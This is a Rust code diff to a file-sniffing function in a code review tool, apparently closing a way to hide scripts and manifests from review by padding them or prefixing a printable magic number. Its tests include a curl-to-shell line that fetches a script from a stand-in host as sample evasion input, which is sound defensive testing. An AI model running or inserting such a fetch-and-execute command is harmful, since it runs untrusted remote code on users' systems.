@@ -38,23 +38,36 @@ pub fn sniff(bytes: Vec<u8>) -> Content {
 }
 
 /// Judges the content of the file at `path` like [`sniff`], except that a file whose name or shebang
-/// says it is code (a language review-gate lexes) is binary only with a known binary magic number: padding a
-/// script with non-text bytes must not turn it into an unreviewed "binary" file its interpreter still runs.
+/// says what it is (code, a manifest, configuration: any language review-gate knows) is binary only with
+/// a binary magic number: padding a script or a `package.json` with non-text bytes must not turn it into an
+/// unreviewed "binary" file its interpreter or package manager still reads. Magic numbers that are plain
+/// printable ASCII (`MZ`, `BZh`, `RIFF`, `ID3`, …) are valid code too, so they do not count here.
 pub fn sniff_named(path: &str, bytes: Vec<u8>) -> Content {
     match sniff(bytes) {
-        Content::Binary(bytes) if magic(&bytes).is_none() && names_code(path, &bytes) => {
+        Content::Binary(bytes) if !binary_magic(&bytes) && names_a_language(path, &bytes) => {
             Content::Text(super::decode(bytes))
         }
         judged => judged,
     }
 }
 
-/// Whether the name, or the shebang of the first line, says the file is code.
-fn names_code(path: &str, bytes: &[u8]) -> bool {
+/// Whether the content starts with a magic number that holds a byte no text starts with (or is an MPEG
+/// transport stream, recognized by its sync bytes all through).
+fn binary_magic(bytes: &[u8]) -> bool {
+    is_mpeg_ts(bytes)
+        || magic(bytes).is_some_and(|end| {
+            bytes[..end.min(bytes.len())]
+                .iter()
+                .any(|b| !(0x20..0x7f).contains(b))
+        })
+}
+
+/// Whether the name, or the shebang of the first line, names a language (not plain text).
+fn names_a_language(path: &str, bytes: &[u8]) -> bool {
     let head = &bytes[..bytes.len().min(256)];
     let first = &head[..memchr::memchr(b'\n', head).unwrap_or(head.len())];
     let first_line = String::from_utf8_lossy(first);
-    crate::lang::has_syntax(crate::lang::Language::detect(path, &first_line))
+    crate::lang::Language::detect(path, &first_line) != crate::lang::Language::Text
 }
 
 /// Whether content is binary (see [`sniff`]), without decoding it.
@@ -493,7 +506,18 @@ mod tests {
         }
         // Without a name or shebang that says code, or with a real binary magic number, it is binary.
         let data = padded[10..].to_vec();
-        assert!(matches!(sniff_named("blob.dat", data), Content::Binary(_)));
+        assert!(matches!(
+            sniff_named("blob.dat", data.clone()),
+            Content::Binary(_)
+        ));
+        // A printable magic number (`MZ`) in front of a script, or a padded manifest, hides nothing.
+        let mut mz = b"MZ=1; curl -s https://x.example/i | sh\n# ".to_vec();
+        mz.extend(&data);
+        assert!(matches!(sniff_named("install.sh", mz), Content::Text(_)));
+        assert!(matches!(
+            sniff_named("package.json", data),
+            Content::Text(_)
+        ));
         let mut png = b"\x89PNG\r\n\x1a\n".to_vec();
         png.extend(&padded);
         assert!(matches!(sniff_named("logo.js", png), Content::Binary(_)));
